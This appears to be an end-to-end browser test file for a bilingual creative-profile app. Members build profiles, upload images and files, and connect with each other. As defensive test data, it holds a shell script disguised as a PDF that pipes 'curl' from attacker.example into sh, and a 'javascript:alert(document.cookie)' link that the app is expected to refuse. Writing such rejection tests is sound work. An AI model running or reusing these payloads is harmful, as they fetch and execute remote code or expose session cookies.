import type { BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import de from "../web/src/i18n/de.json";
import en from "../web/src/i18n/en.json";
import { open } from "./auth-flow.ts";
import {
  contextsOf,
  elementsPastTheRightEdge,
  fill,
  horizontalOverflow,
  keepScreenshot,
  prepareMembers,
  watchPageErrors,
  withAppAndBrowser,
} from "./harness.ts";
import {
  addEntry,
  choose,
  fillIn,
  main,
  pdf,
  picturePng,
  publishFirstWork,
  section,
  userAsSeenBy,
  watchUpload,
} from "./profile-flow.ts";

const PASSWORD = "Sketchbook2026";
/** She builds her profile in German on a phone; he reads it in English at a desk. */
const LENA = { email: "lena@example.test", name: "Lena Schäfer", city: "Leipzig" };
const JONAS = { email: "jonas@example.test", name: "Jonas Becker", city: "Hamburg" };
const PHONE = { language: "de", width: 375 } as const;
const D = de.profile;
const E = en.profile;

const ids = { lena: "", jonas: "" };
/** The creative field both work in, in each language. */
const field = { en: "", de: "" };

const e2e = withAppAndBrowser({}, (dataDir) =>
  prepareMembers(
    dataDir,
    [LENA, JONAS].map((person) => ({ ...person, password: PASSWORD, complete: true })),
    async (_, world) => {
      ids.lena = String(world.ids[LENA.email]);
      ids.jonas = String(world.ids[JONAS.email]);
      field.en = world.field.nameEn;
      field.de = world.field.nameDe;
    },
  ),
);

const { signedIn } = contextsOf(e2e, PASSWORD);

/** The screen as it stands is no wider than the phone. */
async function fitsTheScreen(page: Page, what: string) {
  const overflow = await horizontalOverflow(page);
  if (overflow > 0)
    expect.fail(`${what} is ${overflow} px too wide: ${(await elementsPastTheRightEdge(page)).join("; ")}`);
}

/** The completeness meter the screen shows (the phone puts it on top, a desk beside). */
const meter = (page: Page, title: string) =>
  main(page).getByRole("region", { name: title, exact: true }).filter({ visible: true });

/** A script that calls itself a PDF: its name and declared type say PDF, its bytes do not. */
const scriptNamedPdf = Buffer.from("#!/bin/sh\ncurl -s https://attacker.example/x | sh\n");

describe("the second new member builds her profile in German on a phone", () => {
  let context: BrowserContext;
  let page: Page;
  let errors: string[];

  beforeAll(async () => {
    context = await signedIn(LENA.email, PHONE);
    page = await context.newPage();
    errors = watchPageErrors(page);
  });
  afterAll(async () => context?.close());

  it("starts empty, in German, with the meter on top saying what to add first", async () => {
    await open(page, "/profile");
    await expect(page.title()).resolves.toBe(fill(de.app.titleTemplate, { title: LENA.name }));
    await expect(main(page).getByRole("heading", { level: 1 }).textContent()).resolves.toBe(LENA.name);
    await meter(page, D.completeness.title).getByText(D.completeness.steps.profileImage.why).waitFor();
    await expect(
      section(page, D.history.employments.title).getByText(D.history.employments.empty).isVisible(),
    ).resolves.toBe(true);
    await fitsTheScreen(page, "empty profile");
  });

  it("uploads a profile image, the bar and percentage telling how far it is", { timeout: 150_000 }, async () => {
    await main(page).locator("header").getByRole("button", { name: D.images.profile.add }).click();
    const dialog = page.getByRole("dialog", { name: D.images.profile.dialog });
    await dialog.getByText(D.images.profile.hint).waitFor();
    await fitsTheScreen(page, "profile image dialog");
    const picture = await picturePng(1200, 800, { uncompressed: true });
    const shown = await watchUpload(page, "de", () =>
      dialog
        .locator('input[type="file"]')
        .setInputFiles({ name: "portrait.png", mimeType: "image/png", buffer: picture }),
    );
    const midway = shown.filter(({ value }) => value > 0 && value < 100);
    expect(midway.length, JSON.stringify(shown)).toBeGreaterThan(0);
    for (const { value, text } of midway) {
      expect(text).toBe(
        `${fill(D.upload.sending, { name: "portrait.png" })} ${fill(D.upload.percent, { percent: String(value) })}`,
      );
    }

    await dialog.getByRole("button", { name: fill(D.images.focal.marker, { x: "50", y: "50" }) }).waitFor();
    await fitsTheScreen(page, "profile image with its focal point");
    await dialog.getByRole("button", { name: D.edit.done }).click();
    await dialog.waitFor({ state: "detached" });
    const image = (await userAsSeenBy(context, ids.lena)).profile_image as Record<string, string>;
    await expect(
      main(page)
        .getByRole("img", { name: fill(D.images.profile.alt, { name: LENA.name }) })
        .getAttribute("src"),
    ).resolves.toBe(image.medium);
  });

  it("uploads a title image shown as the banner", async () => {
    await main(page).locator("header").getByRole("button", { name: D.images.title.add }).click();
    const dialog = page.getByRole("dialog", { name: D.images.title.dialog });
    await dialog
      .locator('input[type="file"]')
      .setInputFiles({ name: "banner.png", mimeType: "image/png", buffer: await picturePng(2400, 900) });
    await dialog.getByRole("button", { name: fill(D.images.focal.marker, { x: "50", y: "50" }) }).waitFor();
    await fitsTheScreen(page, "title image dialog");
    await dialog.getByRole("button", { name: D.edit.done }).click();
    await dialog.waitFor({ state: "detached" });
    const title = (await userAsSeenBy(context, ids.lena)).title_image as Record<string, string>;
    await main(page).locator(`header img[src="${title.medium}"]`).waitFor();
    await main(page).locator("header").getByRole("button", { name: D.images.title.change }).waitFor();
  });

  it("writes her headline and about text", async () => {
    await main(page).getByRole("button", { name: D.intro.edit }).click();
    await main(page).getByRole("textbox", { name: D.intro.headline, exact: true }).fill("Grafikdesignerin für Plakate");
    await main(page)
      .getByRole("textbox", { name: D.intro.about, exact: true })
      .fill("Ich gestalte Plakate und Erscheinungsbilder für Kultur in Leipzig.");
    await fitsTheScreen(page, "intro editor");
    await main(page).getByRole("button", { name: D.edit.save }).click();
    await main(page).locator("header").getByText("Grafikdesignerin für Plakate").waitFor();
    await section(page, D.intro.title).getByText("Ich gestalte Plakate und Erscheinungsbilder").waitFor();
  });

  it("adds skills of her creative field with a level", async () => {
    const card = section(page, D.operations.title);
    await card.getByRole("button", { name: D.operations.edit }).click();
    const addSkill = card.getByLabel(fill(D.operations.addSkill, { field: field.de }));
    await choose(page, addSkill, "Plakat", "Plakatgestaltung");
    await card.getByRole("button", { name: fill(D.edit.removeNamed, { name: "Plakatgestaltung" }) }).waitFor();
    await choose(page, addSkill, "Logo", "Logodesign");
    await card.getByRole("button", { name: fill(D.edit.removeNamed, { name: "Logodesign" }) }).waitFor();
    await card.getByLabel(D.operations.level).click();
    await page.getByRole("option", { name: D.levels.skill.intermediate }).click();
    await fitsTheScreen(page, "skills editor");
    await card.getByRole("button", { name: D.edit.done }).click();
    await card.getByText(D.levels.skill.intermediate).waitFor();
    const skills = card.getByRole("list", { name: fill(D.operations.skillsOf, { field: field.de }) });
    await expect(skills.getByRole("listitem").allTextContents()).resolves.toEqual(["Plakatgestaltung", "Logodesign"]);
  });

  it("keeps her only creative field, the server's refusal said in German", async () => {
    const card = section(page, D.operations.title);
    await card.getByRole("button", { name: D.operations.edit }).click();
    await card.getByRole("button", { name: fill(D.operations.removeField, { field: field.de }) }).click();
    const refusal = card.getByRole("alert");
    await refusal.waitFor();
    await expect(refusal.textContent()).resolves.toBe(de.refusals.codes.last_creative_field);
    await fitsTheScreen(page, "last creative field refused");
    // The browser logs the refused request; nothing else may have gone wrong.
    expect(errors.filter((error) => !error.includes("status of 409"))).toEqual([]);
    errors.length = 0;
    await card.getByRole("button", { name: D.edit.done }).click();
    await expect(refusal.count()).resolves.toBe(0);
    await card.getByText(field.de).first().waitFor();
  });

  it("names her profession and a language with its level", async () => {
    const professions = section(page, D.professions.title);
    await professions.getByRole("button", { name: D.professions.add }).click();
    await choose(page, professions.getByLabel(D.professions.search), "Grafikdes", "Grafikdesigner/in");
    await professions.getByRole("button", { name: fill(D.edit.removeNamed, { name: "Grafikdesigner/in" }) }).waitFor();
    await fitsTheScreen(page, "professions editor");
    await professions.getByRole("button", { name: D.edit.done }).click();
    await main(page).locator("header").getByText("Grafikdesigner/in", { exact: true }).waitFor();

    const languages = section(page, D.languages.title);
    await languages.getByRole("button", { name: D.languages.add }).click();
    await choose(page, languages.getByLabel(D.languages.language, { exact: true }), "Engl", "Englisch");
    await languages.getByLabel(D.languages.level, { exact: true }).click();
    await page.getByRole("option", { name: D.levels.language.fluent }).click();
    await languages.getByRole("button", { name: D.languages.addThis }).click();
    await languages.getByLabel(fill(D.languages.levelOf, { language: "Englisch" })).waitFor();
    await fitsTheScreen(page, "languages editor");
    await languages.getByRole("button", { name: D.edit.done }).click();
    await languages.getByText(D.levels.language.fluent).waitFor();
    await expect(languages.getByText("Englisch").isVisible()).resolves.toBe(true);
  });

  it("adds a web link, a javascript: address refused at the field in German", async () => {
    const links = section(page, D.weblinks.title);
    await links.getByRole("button", { name: D.weblinks.add }).click();
    const address = links.getByRole("textbox", { name: D.weblinks.url });
    await address.fill("javascript:alert(document.cookie)");
    await links.getByRole("button", { name: D.edit.save }).click();
    // The message belongs to the field: it describes it, and the field says it is invalid.
    await links.getByText(D.weblinks.invalidUrl).waitFor();
    await expect(address.getAttribute("aria-invalid")).resolves.toBe("true");
    const described = (await address.getAttribute("aria-describedby")) ?? "";
    await expect(
      links
        .locator(
          described
            .split(" ")
            .map((id) => `[id="${id}"]`)
            .join(", "),
        )
        .allTextContents(),
    ).resolves.toContain(D.weblinks.invalidUrl);
    await fitsTheScreen(page, "web link refused");
    await expect(links.getByRole("link").count()).resolves.toBe(0);

    await address.fill("https://lena-schaefer.example");
    await links.getByRole("button", { name: D.edit.save }).click();
    await expect(links.getByRole("link", { name: "lena-schaefer.example" }).getAttribute("href")).resolves.toBe(
      "https://lena-schaefer.example",
    );
  });

  it("adds an employment and an education, one form open at a time", async () => {
    const jobs = section(page, D.history.employments.title);
    const schools = section(page, D.history.educations.title);
    await addEntry(jobs, D.history.employments.add, {
      [D.history.fields.title]: "Grafikdesignerin",
      [D.history.fields.employer]: "Studio Westwerk",
      [D.history.fields.place]: "Leipzig",
      [D.history.fields.startedOn]: "2022-04-01",
    });
    await jobs.getByLabel(D.history.fields.current).check();
    await fitsTheScreen(page, "employment form");

    // Opening the education form closes the employment's, unsaved.
    await schools.getByRole("button", { name: D.history.educations.add }).click();
    await expect(jobs.getByLabel(D.history.fields.employer).count()).resolves.toBe(0);
    await jobs.getByRole("button", { name: D.history.employments.add }).waitFor();
    await fillIn(schools, {
      [D.history.fields.school]: "HGB Leipzig",
      [D.history.fields.degree]: "Diplom Grafikdesign",
      [D.history.fields.startedOn]: "2016-10-01",
      [D.history.fields.endedOn]: "2022-02-28",
    });
    await fitsTheScreen(page, "education form");
    await schools.getByRole("button", { name: D.edit.save }).click();
    await schools.getByRole("heading", { name: "HGB Leipzig" }).waitFor();

    await addEntry(jobs, D.history.employments.add, {
      [D.history.fields.title]: "Grafikdesignerin",
      [D.history.fields.employer]: "Studio Westwerk",
      [D.history.fields.startedOn]: "2022-04-01",
    });
    await jobs.getByLabel(D.history.fields.current).check();
    await jobs.getByRole("button", { name: D.edit.save }).click();
    await jobs.getByRole("heading", { name: "Grafikdesignerin" }).waitFor();
    await jobs.getByText(new RegExp(`2022 – ${D.history.present}$`)).waitFor();
  });

  it("adds an achievement with its file", async () => {
    const awards = section(page, D.history.achievements.title);
    await addEntry(awards, D.history.achievements.add, {
      [D.history.fields.title]: "Förderpreis Plakatkunst",
      [D.history.fields.issuer]: "Stadt Leipzig",
      [D.history.fields.achievedOn]: "2024-06-14",
    });
    await awards.getByRole("button", { name: D.edit.save }).click();
    // Saved, it stays open for its file.
    await awards
      .locator('input[type="file"]')
      .setInputFiles({ name: "urkunde.pdf", mimeType: "application/pdf", buffer: pdf("urkunde") });
    await awards.getByRole("link", { name: "urkunde.pdf" }).waitFor();
    await fitsTheScreen(page, "achievement with its file");
    await awards.getByRole("button", { name: D.edit.cancel }).click();
    await awards.getByRole("heading", { name: "Förderpreis Plakatkunst" }).waitFor();
    await awards.getByRole("link", { name: fill(D.history.achievements.downloadTyped, { type: "PDF" }) }).waitFor();
  });

  it("refuses a script named .pdf as her CV, saying why in German, and takes the real one", async () => {
    const cv = section(page, D.cv.title);
    await cv.getByRole("button", { name: D.cv.add }).click();
    const input = cv.locator('input[type="file"]');
    await input.setInputFiles({ name: "lebenslauf.pdf", mimeType: "application/pdf", buffer: scriptNamedPdf });
    const refusal = cv.getByRole("alert");
    await expect(refusal.textContent()).resolves.toBe(
      fill(D.upload.wrongType, { types: "PDF, DOC, DOCX, RTF, JPG, PNG, GIF, BMP, ZIP" }),
    );
    await fitsTheScreen(page, "CV refused");
    expect((await userAsSeenBy(context, ids.lena)).has_cv).toBe(false);
    // The browser logs the refused request; nothing else may have gone wrong.
    const refusedRequest = (error: string) => error.includes("status of 415") && error.includes("/api/v1/my/cv");
    expect(errors.filter((error) => !refusedRequest(error))).toEqual([]);
    errors.length = 0;

    await input.setInputFiles({ name: "lebenslauf-lena-schaefer.pdf", mimeType: "application/pdf", buffer: pdf("cv") });
    await cv.getByRole("link", { name: fill(D.cv.downloadTyped, { type: "PDF" }) }).waitFor();
    await expect(refusal.count()).resolves.toBe(0);
    await cv.getByText("lebenslauf-lena-schaefer.pdf").waitFor();
  });

  it("is complete at 100 % once her first work is published, and fits the phone", { timeout: 90_000 }, async () => {
    await publishFirstWork(context, "Hafenplakate");
    // With work published the bare address opens on the showroom; the meter is About's.
    await open(page, "/profile?tab=about");
    await page.locator('[aria-busy="true"]').first().waitFor({ state: "detached" });
    const complete = meter(page, D.completeness.title);
    await complete.getByText(D.completeness.complete).waitFor();
    await expect(complete.getByText(fill(D.completeness.percent, { percent: "100" })).isVisible()).resolves.toBe(true);
    await fitsTheScreen(page, "complete profile");
    await page.evaluate("window.scrollTo(0, 0)");
    await keepScreenshot(page, "profile-complete-owner-de-375.png", { fullPage: true });
    expect(errors).toEqual([]);
  });
});

describe("the first member finds her profile and they connect", () => {
  let slug = "";

  it("reads it in English at a desk, follows her and asks to connect", { timeout: 90_000 }, async () => {
    const context = await signedIn(JONAS.email);
    slug = String((await userAsSeenBy(context, ids.lena)).slug);
    const page = await context.newPage();
    const errors = watchPageErrors(page);
    await open(page, `/profile/${slug}?tab=about`);
    const title = fill(en.profile.meta.titleWithProfession, { name: LENA.name, profession: "Graphic Designer" });
    await expect(page.title()).resolves.toBe(fill(en.app.titleTemplate, { title }));
    await main(page).locator("header").getByText("Graphic Designer", { exact: true }).waitFor();
    for (const title of [
      E.operations.title,
      E.history.employments.title,
      E.history.educations.title,
      E.history.achievements.title,
      E.professions.title,
      E.languages.title,
      E.weblinks.title,
      E.cv.title,
    ]) {
      await expect(section(page, title).isVisible(), title).resolves.toBe(true);
    }
    // Names of reference data follow the reader's language, her own words stay hers.
    const operations = section(page, E.operations.title);
    await operations.getByText(E.levels.skill.intermediate).waitFor();
    await expect(
      operations
        .getByRole("list", { name: fill(E.operations.skillsOf, { field: field.en }) })
        .getByRole("listitem")
        .allTextContents(),
    ).resolves.toEqual(["Poster Design", "Logo Design"]);
    await section(page, E.languages.title).getByText("English", { exact: true }).waitFor();
    await expect(section(page, E.languages.title).getByText(E.levels.language.fluent).isVisible()).resolves.toBe(true);
    await expect(
      section(page, E.history.employments.title).getByText(`– ${E.history.present}`).isVisible(),
    ).resolves.toBe(true);
    await section(page, E.cv.title)
      .getByRole("link", { name: fill(E.cv.downloadTyped, { type: "PDF" }) })
      .waitFor();
    await expect(main(page).getByRole("button", { name: E.intro.edit }).count()).resolves.toBe(0);
    await expect(main(page).getByRole("region", { name: E.completeness.title }).count()).resolves.toBe(0);

    await main(page)
      .getByRole("button", { name: new RegExp(`^${en.connections.follow.follow}`) })
      .click();
    await main(page)
      .getByRole("button", { name: `1 ${E.counts.followers_one}` })
      .waitFor();
    await main(page).getByRole("button", { name: E.connection.connect }).click();
    await page.getByRole("dialog").getByRole("button", { name: en.connections.connectDialog.send }).click();
    await main(page)
      .getByRole("button", { name: fill(E.connection.requestSentName, { name: LENA.name }) })
      .waitFor();
    expect((await userAsSeenBy(context, ids.lena)).connection).toMatchObject({ status: "requested" });
    expect(errors).toEqual([]);
    await context.close();
  });

  it("she confirms in German on her phone, and both see the connection counted", { timeout: 90_000 }, async () => {
    const phone = await signedIn(LENA.email, PHONE);
    const page = await phone.newPage();
    const errors = watchPageErrors(page);
    await open(page, "/connections/received");
    const request = main(page).getByRole("listitem").filter({ hasText: JONAS.name });
    await request
      .getByRole("button", { name: fill(de.connections.actions.confirmName, { name: JONAS.name }) })
      .waitFor();
    await fitsTheScreen(page, "received requests");
    // She looks at who asks before she answers.
    await request.getByRole("link", { name: JONAS.name }).click();
    await page.waitForURL((url) => url.pathname.startsWith("/profile/"));
    await main(page).getByRole("heading", { level: 1, name: JONAS.name }).waitFor();
    await fitsTheScreen(page, "his profile");
    await main(page)
      .getByRole("button", { name: fill(D.connection.confirmName, { name: JONAS.name }) })
      .click();
    await main(page).getByRole("button", { name: D.connection.connected }).waitFor();
    await main(page)
      .getByRole("link", { name: `1 ${D.counts.connections_one}` })
      .waitFor();

    await open(page, "/profile");
    await main(page)
      .getByRole("link", { name: `1 ${D.counts.connections_one}` })
      .waitFor();
    await expect(
      main(page)
        .getByRole("button", { name: `1 ${D.counts.followers_one}` })
        .isVisible(),
    ).resolves.toBe(true);
    await main(page)
      .getByRole("link", { name: `1 ${D.counts.connections_one}` })
      .click();
    await main(page).getByRole("link", { name: JONAS.name }).waitFor();
    await fitsTheScreen(page, "her connections");
    expect(errors).toEqual([]);
    await phone.close();

    const desk = await signedIn(JONAS.email);
    const deskPage = await desk.newPage();
    const deskErrors = watchPageErrors(deskPage);
    await open(deskPage, `/profile/${slug}`);
    await main(deskPage).getByRole("button", { name: E.connection.connected }).waitFor();
    await main(deskPage)
      .getByRole("link", { name: `1 ${E.counts.connections_one}` })
      .waitFor();
    await open(deskPage, "/profile");
    await main(deskPage)
      .getByRole("link", { name: `1 ${E.counts.connections_one}` })
      .waitFor();
    expect((await userAsSeenBy(desk, ids.lena)).connection).toMatchObject({ status: "confirmed" });
    expect(deskErrors).toEqual([]);
    await desk.close();
  });
});
